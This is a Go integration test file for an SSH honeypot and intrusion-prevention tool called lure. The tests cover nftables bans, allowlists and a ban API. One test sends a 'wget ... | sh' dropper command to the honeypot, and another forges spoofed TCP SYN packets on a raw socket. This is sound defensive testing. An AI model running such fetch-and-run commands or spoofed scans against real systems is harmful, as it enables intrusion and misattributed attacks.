//go:build linux

package ips

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"
	"golang.org/x/sys/unix"
)

// TestLureNFTablesAndDecisionsCLI runs the real `lure serve` with its local nftables enforcer
// in the sensor's namespace and manages a ban by hand with `lure decisions`: the banned address
// loses the sensor's other services but keeps the honeypot port; the table goes with the
// sensor at shutdown and comes back, with the ban still in force, after a restart; `rm` lifts
// the ban.
func TestLureNFTablesAndDecisionsCLI(t *testing.T) {
	RequireRoot(t, "nft")
	lab := NewLab(t)
	sensor, attacker, other := lab.Host("sensor"), lab.Host("attacker"), lab.Host("other")
	sensor.Serve(t, ":9000") // another service on the sensor: protected
	l := StartLure(t, sensor, fmt.Sprintf(`ssh:
  listen: ["%s:2222"]
ips:
  lapi:
    listen: ""
  nftables:
    enabled: true
    exempt_ports: [2223]
`, sensor.Addr4), 2222)
	service, honeypot := HostPort(sensor.Addr4, 9000), HostPort(sensor.Addr4, 2222)
	if out := sensor.Run(t, "nft", "list", "table", "inet", "lure"); !strings.Contains(out, "2222") || !strings.Contains(out, "2223") {
		t.Errorf("lure's table does not exempt the SSH port and the configured one:\n%s", out)
	}
	if !attacker.Reaches(service, 2*time.Second) {
		t.Fatal("before the ban the attacker does not reach the sensor's service")
	}
	out, err := l.Lure(t, "decisions", "add", "--data-dir", l.DataDir, "--ip", attacker.Addr4, "--duration", "1h", "--reason", "test")
	if err != nil {
		t.Fatalf("lure decisions add: %v\n%s", err, out)
	}
	// The running sensor reads hand-made decisions every second.
	if took, ok := attacker.WaitReach(service, false, 5*time.Second); !ok {
		t.Fatalf("the hand-made ban did not block the attacker within 5s; table:\n%s\nlure:\n%s", sensor.Run(t, "nft", "list", "table", "inet", "lure"), l.Stderr())
	} else {
		t.Logf("lure decisions add to drop on the sensor: %s", took.Round(time.Millisecond))
	}
	if !attacker.Reaches(honeypot, 2*time.Second) {
		t.Error("the banned attacker no longer reaches the honeypot port (it must stay exempt)")
	}
	if !other.Reaches(service, 2*time.Second) {
		t.Error("another address is blocked")
	}
	if out, _ := l.Lure(t, "decisions", "ls", "--data-dir", l.DataDir); !strings.Contains(out, "ip:"+attacker.Addr4) || !strings.Contains(out, "cli") {
		t.Errorf("lure decisions ls does not list the ban:\n%s", out)
	}

	l.Stop()
	if out := sensor.Run(t, "nft", "list", "tables"); strings.Contains(out, "lure") {
		t.Errorf("table inet lure is left after lure stopped:\n%s", out)
	}
	if !attacker.Reaches(service, 2*time.Second) {
		t.Error("the attacker is still blocked with lure stopped")
	}
	l = l.Restart(t)
	if _, ok := attacker.WaitReach(service, false, 3*time.Second); !ok {
		t.Fatal("after a restart the ban in the store is not enforced again")
	}
	if out, err := l.Lure(t, "decisions", "rm", "--data-dir", l.DataDir, "--ip", attacker.Addr4); err != nil {
		t.Fatalf("lure decisions rm: %v\n%s", err, out)
	}
	if _, ok := attacker.WaitReach(service, true, 5*time.Second); !ok {
		t.Fatal("lure decisions rm did not lift the ban within 5s")
	}
}

// TestNoBanForMistakesOrAllowlist checks the false positives the issue names, on the real
// sensor: a user who mistypes the password twice and then logs in is not banned, and an
// allowlisted address is never banned however hard it guesses, while the same guessing from
// an address outside the allowlist is.
func TestNoBanForMistakesOrAllowlist(t *testing.T) {
	lab := NewLab(t)
	sensor, user, trusted, guesser := lab.Host("sensor"), lab.Host("user"), lab.Host("trusted"), lab.Host("guesser")
	const password = "k7#Qv9-correct"
	l := StartLure(t, sensor, fmt.Sprintf(`ssh:
  listen: ["%s:2222"]
  credentials: [{user: admin, password: %q}]
  auth_fail_delay: 10ms
ips:
  allowlist: ["%s/32"]
  lapi:
    listen: ""
`, sensor.Addr4, password, trusted.Addr4), 2222)
	addr := HostPort(sensor.Addr4, 2222)
	login := func(h *Host, pw string) error {
		c, err := h.Dial("tcp", addr, 5*time.Second)
		if err != nil {
			return err
		}
		cc, ch, reqs, err := gossh.NewClientConn(c, addr, &gossh.ClientConfig{User: "admin", Auth: []gossh.AuthMethod{gossh.Password(pw)},
			HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second})
		if err != nil {
			c.Close()
			return err
		}
		gossh.NewClient(cc, ch, reqs).Close()
		return nil
	}
	// Two typos, then the right password.
	for _, pw := range []string{"k7#Qv9-corect", "k7#Qv9-correct!"} {
		if err := login(user, pw); err == nil {
			t.Fatalf("a wrong password %q logged in", pw)
		}
	}
	if err := login(user, password); err != nil {
		t.Fatalf("the right password failed: %v", err)
	}
	// Ten wrong guesses each from the allowlisted and from the outside address.
	for i := range 10 {
		for _, h := range []*Host{trusted, guesser} {
			if err := login(h, fmt.Sprintf("guess-%d", i)); err == nil {
				t.Fatal("a guess logged in")
			}
		}
	}
	l.WaitEvent(t, "lure.ips.decision", func(e map[string]any) bool {
		return e["src_ip"] == guesser.Addr4 && e["outcome"] == "decided"
	}, 10*time.Second)
	l.WaitEvent(t, "lure.ips.decision", func(e map[string]any) bool {
		return e["src_ip"] == trusted.Addr4 && e["outcome"] == "allowlisted"
	}, 10*time.Second)
	for _, e := range l.Events(t) {
		if e["eventid"] == "lure.ips.decision" && e["outcome"] == "decided" && e["src_ip"] != guesser.Addr4 {
			t.Errorf("a decision for %v, which only guessed within limits or is allowlisted: %v", e["src_ip"], e)
		}
	}
	out, err := l.Lure(t, "decisions", "ls", "--data-dir", l.DataDir)
	if err != nil || !strings.Contains(out, guesser.Addr4) || strings.Contains(out, trusted.Addr4) || strings.Contains(out, user.Addr4) {
		t.Errorf("decisions in force:\n%s (%v); want the guesser's only", out, err)
	}
}

// TestDropperSignatureBansAtOnce: a logged-in attacker pipes a download into a shell (the
// dropper every bot runs); the signature detector fires on that one command line and the ban
// is in the bouncer API at once, with the command's event as evidence.
func TestDropperSignatureBansAtOnce(t *testing.T) {
	lab := NewLab(t)
	sensor, attacker, bouncer := lab.Host("sensor"), lab.Host("attacker"), lab.Host("bouncer")
	const password = "k7#Qv9-weak-on-purpose"
	key := randomHex(t, 24)
	l := StartLure(t, sensor, fmt.Sprintf(`ssh:
  listen: ["%s:2222"]
  credentials: [{user: root, password: %q}]
ips:
  lapi:
    listen: "%s:8081"
    bouncer_keys: ["%s"]
`, sensor.Addr4, password, sensor.Addr4, key), 2222)
	addr := HostPort(sensor.Addr4, 2222)
	c, err := attacker.Dial("tcp", addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	cc, ch, reqs, err := gossh.NewClientConn(c, addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password(password)},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	client := gossh.NewClient(cc, ch, reqs)
	defer client.Close()
	s, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	s.CombinedOutput("cd /tmp; wget -qO- http://192.0.2.10/bins.sh | sh")
	dec := l.WaitEvent(t, "lure.ips.decision", func(e map[string]any) bool {
		return e["src_ip"] == attacker.Addr4 && e["outcome"] == "decided"
	}, 10*time.Second)
	if sc, _ := dec["scenario"].(string); !strings.HasPrefix(sc, "lure/sig-") {
		t.Errorf("the decision's scenario is %q, want a signature's", sc)
	}
	cmd := l.WaitEvent(t, "cowrie.command.input", func(e map[string]any) bool { return e["src_ip"] == attacker.Addr4 }, time.Second)
	if ev, _ := dec["evidence"].([]any); len(ev) == 0 || ev[len(ev)-1] != cmd["uuid"] {
		t.Errorf("the decision's evidence %v does not cite the command's event %v", dec["evidence"], cmd["uuid"])
	}
	t.Logf("command line to decision: %.3f ms", dec["latency_ms"])

	// A bouncer elsewhere sees the ban on its next pull.
	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: func(ctx context.Context, network, a string) (net.Conn, error) {
		return bouncer.Dial(network, a, 5*time.Second)
	}}}
	req, _ := http.NewRequest("GET", "http://"+HostPort(sensor.Addr4, 8081)+"/v1/decisions?ip="+attacker.Addr4, nil)
	req.Header.Set("X-Api-Key", key)
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var ds []map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&ds); err != nil || len(ds) != 1 || ds[0]["value"] != attacker.Addr4 || ds[0]["type"] != "ban" {
		t.Errorf("GET /v1/decisions?ip=%s = %v (%v); want the ban", attacker.Addr4, ds, err)
	}
}

// TestNFTablesWithoutCapNetAdmin: lure configured for nftables but started without
// CAP_NET_ADMIN says so at start, makes no table, and serves on; bans still reach bouncers.
func TestNFTablesWithoutCapNetAdmin(t *testing.T) {
	RequireRoot(t, "setpriv", "nft")
	lab := NewLab(t)
	sensor, attacker := lab.Host("sensor"), lab.Host("attacker")
	l := StartLureWithout(t, sensor, fmt.Sprintf(`ssh:
  listen: ["%s:2222"]
ips:
  lapi:
    listen: "%s:8081"
  nftables:
    enabled: true
`, sensor.Addr4, sensor.Addr4), 2222, "net_admin")
	if !strings.Contains(l.Stderr(), "lacks CAP_NET_ADMIN") {
		t.Errorf("lure did not say at start that it lacks CAP_NET_ADMIN:\n%s", l.Stderr())
	}
	if out := sensor.Run(t, "nft", "list", "tables"); strings.Contains(out, "lure") {
		t.Errorf("a table was made without CAP_NET_ADMIN:\n%s", out)
	}
	if !attacker.Reaches(HostPort(sensor.Addr4, 2222), 2*time.Second) || !attacker.Reaches(HostPort(sensor.Addr4, 8081), 2*time.Second) {
		t.Error("the SSH frontend or the bouncer API is not serving")
	}
}

// TestSpoofedSYNsGetOnlyAShortDecision: SYNs forged with a bystander's source address (a
// customer, a DNS resolver) make a port scan that lure sees only through its NFLOG rule, with
// no completed handshake; the decision that follows is the short syn_only_duration one, never
// a full ban. (nmap -S cannot spoof inside a namespace, "failed to determine route", so the
// attacker writes the SYNs on a raw socket.)
func TestSpoofedSYNsGetOnlyAShortDecision(t *testing.T) {
	RequireRoot(t)
	lab := NewLab(t)
	sensor, attacker, victim := lab.Host("sensor"), lab.Host("attacker"), lab.Host("resolver")
	l := StartLure(t, sensor, fmt.Sprintf(`ssh:
  listen: ["%s:2222"]
ips:
  ban_duration: 1h
  syn_only_duration: 1m
  lapi:
    listen: ""
`, sensor.Addr4), 2222)
	if strings.Contains(l.Stderr(), "lacks CAP_NET_ADMIN") {
		t.Fatalf("lure cannot log SYNs here:\n%s", l.Stderr())
	}
	src, dst := netip.MustParseAddr(victim.Addr4), netip.MustParseAddr(sensor.Addr4)
	if err := attacker.Do(func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		to := &unix.SockaddrInet4{Addr: dst.As4()}
		for port := 1; port <= 40; port++ {
			if err := unix.Sendto(fd, synPacket(src, dst, uint16(40000+port), uint16(port)), 0, to); err != nil {
				return err
			}
		}
		return nil
	}); err != nil {
		t.Fatalf("sending forged SYNs: %v", err)
	}
	dec := l.WaitEvent(t, "lure.ips.decision", func(e map[string]any) bool {
		return e["src_ip"] == victim.Addr4 && e["outcome"] == "decided"
	}, 15*time.Second)
	t.Logf("forged SYNs from %s: %v, %v for %v", victim.Addr4, dec["message"], dec["scenario"], dec["duration"])
	if d, err := time.ParseDuration(fmt.Sprint(dec["duration"])); err != nil || d > time.Minute {
		t.Errorf("forged SYNs got a %v decision, want at most syn_only_duration (1m)", dec["duration"])
	}
	for _, e := range l.Events(t) {
		if e["eventid"] == "lure.ips.alert" && e["src_ip"] == victim.Addr4 && e["handshake"] == true {
			t.Errorf("an alert for the spoofed address claims a handshake: %v", e)
		}
	}
	if out, _ := l.Lure(t, "decisions", "ls", "--data-dir", l.DataDir); !strings.Contains(out, victim.Addr4) || strings.Contains(out, "1h0m") {
		t.Errorf("decisions in force:\n%s\nwant the spoofed address with a short decision only", out)
	}
}

// synPacket is an IPv4 header (the kernel fills in its length and checksum) and a TCP SYN.
func synPacket(src, dst netip.Addr, sport, dport uint16) []byte {
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
	s4, d4 := src.As4(), dst.As4()
	copy(p[12:16], s4[:])
	copy(p[16:20], d4[:])
	tcp := p[20:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], 0x1000+uint32(dport))
	tcp[12], tcp[13] = 5<<4, 0x02 // header length 20, SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	// The checksum covers a pseudo-header (addresses, protocol, TCP length) and the segment.
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
	}
	add(s4[:])
	add(d4[:])
	sum += unix.IPPROTO_TCP + uint32(len(tcp))
	add(tcp)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
	return p
}
